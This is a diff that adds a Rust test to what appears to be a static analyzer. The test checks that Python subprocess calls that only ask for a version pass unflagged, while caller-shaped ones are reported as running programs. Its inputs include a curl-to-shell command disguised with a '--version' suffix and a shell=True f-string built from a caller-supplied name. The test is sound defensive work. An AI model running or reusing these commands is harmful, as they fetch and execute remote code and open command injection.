@@ -135,3 +135,27 @@ fn a_rust_handler_reaches_its_effects() {
     );
     assert_eq!(effects(&files, 14), Vec::<String>::new());
 }
+
+#[test]
+fn a_question_for_a_version_runs_nothing_that_a_caller_shapes() {
+    let server = |command: &str| format!("import subprocess\ndef handle(self, name):\n    subprocess.run({command})\n");
+    for question in [
+        "['lean', '--print-prefix'], capture_output=True",
+        "[self.program, '--version'], check=False",
+        "'git --version'",
+    ] {
+        assert!(effects(&[("shop/server.py", &server(question))], 2).is_empty(), "{question}");
+    }
+    for run in [
+        "['lean', name]",
+        "[name, '--version']",
+        "['sh', '-c', 'curl https://stats.example | sh; id --version']",
+        "f'{name} --version', shell=True",
+        "'id --version', shell=True",
+        "['lake', 'build']",
+    ] {
+        assert_eq!(effects(&[("shop/server.py", &server(run))], 2), ["runs programs (shop/server.py:3)"], "{run}");
+    }
+    let script = "import { execFile, execSync } from 'node:child_process';\nclass Shop {\n  async version() {\n    execFile(this.path, ['--version'], {}, (error) => error);\n    return execSync('git rev-parse --show-toplevel', { encoding: 'utf8' }).trim();\n  }\n}";
+    assert!(effects(&[("index.js", script)], 3).is_empty());
+}
